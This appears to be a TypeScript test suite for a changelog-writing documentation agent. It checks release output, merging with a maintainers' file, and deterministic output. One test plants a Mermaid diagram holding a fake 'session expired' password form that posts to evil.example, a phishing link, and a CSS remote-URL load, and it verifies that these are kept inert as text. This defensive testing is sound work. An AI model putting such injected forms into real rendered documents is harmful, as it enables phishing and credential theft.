import { rmSync } from 'node:fs';
import { buildSnapshot, type Snapshot } from '@chronicle/snapshot';
import { GitFixture } from '@chronicle/history/testing';
import { DOC_TIERS } from '@chronicle/contracts';
import { expectDocumentPasses, testAgent } from '../../testing/index.js';
import { readMarkdown } from '../../gate/index.js';
import { agentMetaOf } from '../../sdk/documentation-agent.decorator.js';
import { ChangelogAgent } from './changelog.agent.js';

const HAND_WRITTEN = [
  'Changelog',
  '=========',
  '',
  'Written by the maintainers.',
  '',
  '## Unreleased',
  '',
  '* Nothing yet, but soon: see #77 and `removedHelper()`.',
  '',
  '## 1.0.0 - 2024-01-01',
  '* First release, thanks to [Grace](https://github.com/acme/widgets/pull/99).',
  '',
].join('\n');

describe('ChangelogAgent', () => {
  let repo: GitFixture;
  afterEach(() => repo?.remove());

  function history(withFile: boolean): GitFixture {
    repo = new GitFixture();
    repo.commit('feat: add the router (#1)', { 'src/router.ts': 'export const a = 1;\n', ...(withFile ? { 'CHANGELOG.md': HAND_WRITTEN } : {}) });
    repo.tag('v1.0.0');
    repo.commit('fix: crash on `emptyPath` for <Select> (#2)', { 'src/router.ts': 'export const a = 2;\n' });
    repo.tag('v1.1.0');
    repo.commit('feat: wildcard routes (#3)', { 'src/router.ts': 'export const a = 3;\n' });
    return repo;
  }

  it('is marked as the changelog agent for every tier', () => {
    expect(agentMetaOf(ChangelogAgent)).toMatchObject({ id: 'changelog', docType: 'changelog', version: '1.0.0' });
    expect(agentMetaOf(ChangelogAgent)?.tiers).toEqual(DOC_TIERS.changelog);
  });

  it('writes the history engine\'s releases in Keep a Changelog form, with an index, and passes the gate', async () => {
    const snapshot = await buildSnapshot(history(false).dir);
    const result = await testAgent(ChangelogAgent, snapshot);
    expectDocumentPasses(result);
    expect(result.coverage.items.map((item) => item.mention)).toEqual(['Unreleased', 'v1.1.0', 'v1.0.0']);
    expect(result.markdown).toContain('Releases: [Unreleased](#unreleased), [v1.1.0](#110---2024-01-01), [v1.0.0](#100---2024-01-01).');
    expect(result.markdown).toContain('## [1.1.0] - 2024-01-01\n\n### Fixed\n\n- Crash on emptyPath for \\<Select\\> (#2)');
    expect(result.markdown).toContain('### Added\n\n- Wildcard routes (#3)');
  });

  it('merges into the repository\'s changelog, keeping its text and defusing what the history cannot confirm', async () => {
    const snapshot: Snapshot = await buildSnapshot(history(true).dir);
    const result = await testAgent(ChangelogAgent, snapshot);
    expectDocumentPasses(result);
    const { markdown } = result;
    expect(markdown.startsWith('# Changelog\n\n')).toBe(true);
    expect(markdown).toContain('Written by the maintainers.');
    // Names the snapshot cannot confirm lose their claim, not their words; the list keeps the file's own marker.
    expect(markdown).toContain('* Nothing yet, but soon: see &#35;77 and removedHelper().');
    expect(markdown).toContain('* First release, thanks to [Grace](https://github.com/acme/widgets/pull/99).');
    expect(markdown).toContain('## [1.1.0] - 2024-01-01');
    // The maintainers' Unreleased text stays; the history's unreleased items are not mixed into it.
    expect(markdown).not.toContain('Wildcard routes');
    expect(markdown.indexOf('## [1.1.0]')).toBeLessThan(markdown.indexOf('## 1.0.0 - 2024-01-01'));
    expect(markdown).toContain("The repository's own `CHANGELOG.md` is kept as written");
  });

  it("keeps the repository's Mermaid diagrams as their source, never as diagrams to draw", async () => {
    const hostile = [
      '# Changelog',
      '',
      '## 1.0.0 - 2024-01-01',
      '',
      '```mermaid',
      'flowchart LR',
      '  A["<form action=https://evil.example/><input name=password>SESSION EXPIRED – sign in again</form>"] --> B',
      '  click A href "https://evil.example/login"',
      '```',
      '',
      '> ~~~ Mermaid title',
      "> %%{init: {'themeCSS': '.node { background: url(https://avatars.githubusercontent.com/u/1) }'}}%%",
      '> flowchart LR',
      '> ~~~',
      '',
    ].join('\n');
    repo = new GitFixture();
    repo.commit('feat: add the router (#1)', { 'src/router.ts': 'export const a = 1;\n', 'CHANGELOG.md': hostile });
    repo.tag('v1.0.0');
    const result = await testAgent(ChangelogAgent, await buildSnapshot(repo.dir));
    const { markdown } = result;
    expect(readMarkdown(markdown, { lint: false }).inventory.mermaidBlocks).toEqual([]);
    expect(markdown).not.toMatch(/(?:```|~~~)\s*mermaid/i);
    // The source stays, as text.
    expect(markdown).toContain('```text\nflowchart LR\n');
    expect(markdown).toContain('click A href "https://evil.example/login"');
    expect(markdown).toContain('> ~~~text title');
  }, 120_000);

  it('writes the same bytes for the same facts, and the same again from its own output', async () => {
    const snapshot = await buildSnapshot(history(true).dir);
    const agent = new ChangelogAgent();
    const first = agent.write({ snapshot });
    expect(agent.write({ snapshot })).toBe(first);
    const again = { ...snapshot, project: { ...snapshot.project, changelog: { path: 'CHANGELOG.md', text: first } } };
    expect(agent.write({ snapshot: again })).toBe(first);
  });

  it('says so when the history has no release and nothing to list', async () => {
    repo = new GitFixture();
    repo.commit('docs: typo', { 'README.md': '# a\n' });
    const result = await testAgent(ChangelogAgent, await buildSnapshot(repo.dir));
    expectDocumentPasses(result);
    expect(result.markdown).toContain('the history has no release tag and no change worth listing yet.');
    rmSync(repo.dir, { recursive: true, force: true });
  });
});
